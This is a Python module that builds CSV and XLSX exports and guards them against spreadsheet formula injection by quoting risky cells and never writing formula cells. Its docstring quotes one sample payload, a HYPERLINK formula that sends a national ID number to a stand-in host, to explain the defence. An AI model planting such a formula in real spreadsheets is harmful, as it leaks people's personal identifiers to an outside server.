"""Every CSV and XLSX the system writes goes through here, so no file we hand out carries a formula.

Spreadsheet programs run a cell that starts with `=`, `+`, `-` or `@` (and, after a tab or CR,
whatever follows) as a formula: a name typed as `=HYPERLINK("http://x/?"&A2,"Klik")` would become
a live link that sends the NIK in A2 to someone else's server (OWASP "CSV injection"). So:
- a text cell starting with one of those characters gets a leading `'` (CSV and XLSX alike, so a
  file saved again from Excel as CSV stays safe);
- XLSX cells are written as values: the writer below has no formula cell (`<f>`) at all, and
  every text is an inline string (openpyxl would have turned a string starting with `=` into a
  formula, which the leading `'` prevents as well);
- characters that XML 1.0 cannot hold (control characters such as `\\u0001`, which openpyxl
  refuses with IllegalCharacterError) are dropped, so a stored value can never make an export fail;
- identifier columns (NIK, HP, KPJ, village code) are text cells formatted as Text (`@`): as a
  number Excel would keep 15 digits of a 16-digit NIK.
Pure: no AWS, no openpyxl (the stdlib's zipfile writes the workbook).
"""

from __future__ import annotations

import csv
import io
import itertools
import re
import zipfile
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import dataclass, field
from datetime import date, datetime
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# What XML 1.0 (and so XLSX) cannot carry; openpyxl's ILLEGAL_CHARACTERS_RE plus DEL and lone surrogates.
_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ud800-\udfff\ufffe\uffff]")
TEXT_FORMAT = "@"
_COMPRESS_LEVEL = 6


def clean(text: str) -> str:
    """Drop the characters no spreadsheet file may hold (a stored `\\u0001` must not break an export)."""
    return _ILLEGAL.sub("", text)


def cell_text(value: Any) -> Any:
    """A value as it may be written into a file: text cleaned and defused; numbers and dates as they are."""
    if value is None:
        return ""
    if isinstance(value, bool | int | float | datetime | date):
        return value
    text = clean(str(value))
    return "'" + text if text.startswith(FORMULA_START) else text


def _csv_value(value: Any) -> Any:
    value = cell_text(value)
    return value.isoformat() if isinstance(value, date | datetime) else value


def csv_bytes(header: Sequence[str], rows: Iterable[Sequence[Any]], delimiter: str = ",") -> bytes:
    """UTF-8 with a BOM (so Excel reads names with their accents), every cell through cell_text."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter)
    writer.writerow([_csv_value(h) for h in header])
    writer.writerows([_csv_value(v) for v in row] for row in rows)
    return ("\ufeff" + out.getvalue()).encode("utf-8")


@dataclass
class SheetSpec:
    """One worksheet: header row, data rows, and the 0-based columns that hold identifiers (text)."""

    title: str
    header: Sequence[str]
    rows: Iterable[Sequence[Any]]
    text_columns: frozenset[int] = field(default_factory=frozenset)
    widths: dict[int, float] = field(default_factory=dict)


# ---------- the XLSX writer ----------
# A workbook written as its XML parts directly, one row string at a time into the zip: openpyxl's
# write-only mode builds an element per cell and serialises it through et_xmlfile (~0.6 ms a row
# of 15 cells: 20 s of a 26,775-row export). Strings are inline (t="inlineStr": no shared-strings
# table to hold in memory), so a cell is exactly what cell_text made of the value: text is `t="inlineStr"`,
# which no spreadsheet evaluates; there is no way to write a formula (`<f>`) here at all.
_MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PKG_REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
_XML_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
# cellXfs: 0 general, 1 Text (@, built-in 49), 2 date, 3 date and time (as openpyxl formats them)
_TEXT_STYLE, _DATE_STYLE, _DATETIME_STYLE = 1, 2, 3
_STYLES = (_XML_HEAD + f'<styleSheet xmlns="{_MAIN_NS}">'
           '<numFmts count="2"><numFmt numFmtId="164" formatCode="yyyy-mm-dd"/>'
           '<numFmt numFmtId="165" formatCode="yyyy-mm-dd h:mm:ss"/></numFmts>'
           '<fonts count="1"><font><sz val="11"/><name val="Calibri"/><family val="2"/></font></fonts>'
           '<fills count="2"><fill><patternFill patternType="none"/></fill>'
           '<fill><patternFill patternType="gray125"/></fill></fills>'
           '<borders count="1"><border><left/><right/><top/><bottom/><diagonal/></border></borders>'
           '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
           '<cellXfs count="4"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
           '<xf numFmtId="49" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>'
           '<xf numFmtId="164" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>'
           '<xf numFmtId="165" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/></cellXfs>'
           '<cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles>'
           '</styleSheet>')
_EPOCH_DAY = date(1899, 12, 30)
_EPOCH = datetime(1899, 12, 30)
_ROWS_PER_WRITE = 500
_UNSAFE_SHEET_TITLE = re.compile(r"[\\*?:/\[\]]")


def _xml_text(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _xml_attr(text: str) -> str:
    return _xml_text(text).replace('"', "&quot;")


def _column_letters(index: int) -> str:
    letters = ""
    index += 1
    while index:
        index, rest = divmod(index - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def _excel_serial(value: date) -> float | int:
    """Days since Excel's 1900 epoch (as openpyxl's to_excel writes them, 1900's phantom leap day included)."""
    if isinstance(value, datetime):
        if value.tzinfo is not None:
            value = value.replace(tzinfo=None)
        delta = value - _EPOCH
        serial: float | int = delta.days + (delta.seconds + delta.microseconds / 1e6) / 86400
    else:
        serial = (value - _EPOCH_DAY).days
    return serial - 1 if serial < 61 else serial  # openpyxl: days before 1 March 1900


def _xlsx_cell(ref: str, value: Any, as_text: bool) -> str:
    value = cell_text(value)
    if as_text and not isinstance(value, str):
        value = cell_text(str(value))
    if isinstance(value, str):
        if value == "":
            return f'<c r="{ref}" s="{_TEXT_STYLE}"/>' if as_text else ""
        space = ' xml:space="preserve"' if value != value.strip() or "\n" in value or "\t" in value else ""
        style = f' s="{_TEXT_STYLE}"' if as_text else ""
        return f'<c r="{ref}"{style} t="inlineStr"><is><t{space}>{_xml_text(value)}</t></is></c>'
    if isinstance(value, bool):
        return f'<c r="{ref}" t="b"><v>{int(value)}</v></c>'
    if isinstance(value, datetime):
        return f'<c r="{ref}" s="{_DATETIME_STYLE}"><v>{_excel_serial(value)!r}</v></c>'
    if isinstance(value, date):
        return f'<c r="{ref}" s="{_DATE_STYLE}"><v>{_excel_serial(value)}</v></c>'
    if isinstance(value, float) and (value != value or value in (float("inf"), float("-inf"))):
        return _xlsx_cell(ref, str(value), as_text)  # XLSX has no NaN or infinity: written as text
    return f'<c r="{ref}"><v>{value!r}</v></c>' if isinstance(value, float) else f'<c r="{ref}"><v>{int(value)}</v></c>'


def _sheet_rows(spec: SheetSpec) -> Iterator[str]:
    letters: list[str] = []
    for number, values in enumerate(itertools.chain([spec.header], spec.rows), start=1):
        while len(letters) < len(values):
            letters.append(_column_letters(len(letters)))
        text = spec.text_columns if number > 1 else frozenset()
        cells = "".join(_xlsx_cell(f"{letters[i]}{number}", v, i in text) for i, v in enumerate(values))
        yield f'<row r="{number}">{cells}</row>'


def _write_sheet(part: Any, spec: SheetSpec) -> None:
    cols = "".join(f'<col min="{i + 1}" max="{i + 1}" width="{float(w)!r}" customWidth="1"/>'
                   for i, w in sorted(spec.widths.items()))
    part.write((_XML_HEAD + f'<worksheet xmlns="{_MAIN_NS}" xmlns:r="{_REL_NS}">'
                + (f"<cols>{cols}</cols>" if cols else "") + "<sheetData>").encode())
    batch: list[str] = []
    for row in _sheet_rows(spec):
        batch.append(row)
        if len(batch) == _ROWS_PER_WRITE:
            part.write("".join(batch).encode())
            batch = []
    part.write(("".join(batch) + "</sheetData></worksheet>").encode())


def _sheet_title(title: str, taken: set[str]) -> str:
    base = _UNSAFE_SHEET_TITLE.sub("_", clean(title)).strip("'")[:31] or "Sheet"
    name, n = base, 1
    while name.lower() in taken:
        n += 1
        name = f"{base[:31 - len(str(n))]}{n}"
    taken.add(name.lower())
    return name


def xlsx_bytes(sheets: Sequence[SheetSpec]) -> bytes:
    """A workbook streamed part by part: memory holds the zip being built, not the cells."""
    out = io.BytesIO()
    taken: set[str] = set()
    titles = [_sheet_title(spec.title, taken) for spec in sheets]
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=_COMPRESS_LEVEL) as z:
        overrides = "".join(f'<Override PartName="/xl/worksheets/sheet{n}.xml" ContentType="application/'
                            'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
                            for n in range(1, len(sheets) + 1))
        z.writestr("[Content_Types].xml", _XML_HEAD + (
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/styles.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>'
            f"{overrides}</Types>"))
        z.writestr("_rels/.rels", _XML_HEAD + (
            f'<Relationships xmlns="{_PKG_REL_NS}"><Relationship Id="rId1" Type="{_REL_NS}/officeDocument" '
            'Target="xl/workbook.xml"/></Relationships>'))
        sheet_entries = "".join(f'<sheet name="{_xml_attr(t)}" sheetId="{n}" r:id="rId{n}"/>'
                                for n, t in enumerate(titles, start=1))
        z.writestr("xl/workbook.xml", _XML_HEAD + (
            f'<workbook xmlns="{_MAIN_NS}" xmlns:r="{_REL_NS}"><sheets>{sheet_entries}</sheets></workbook>'))
        relations = "".join(f'<Relationship Id="rId{n}" Type="{_REL_NS}/worksheet" Target="worksheets/sheet{n}.xml"/>'
                            for n in range(1, len(sheets) + 1))
        styles_id = len(sheets) + 1
        z.writestr("xl/_rels/workbook.xml.rels", _XML_HEAD + (
            f'<Relationships xmlns="{_PKG_REL_NS}">{relations}<Relationship Id="rId{styles_id}" '
            f'Type="{_REL_NS}/styles" Target="styles.xml"/></Relationships>'))
        z.writestr("xl/styles.xml", _STYLES)
        for n, spec in enumerate(sheets, start=1):
            with z.open(f"xl/worksheets/sheet{n}.xml", "w", force_zip64=True) as part:
                _write_sheet(part, spec)
    return out.getvalue()
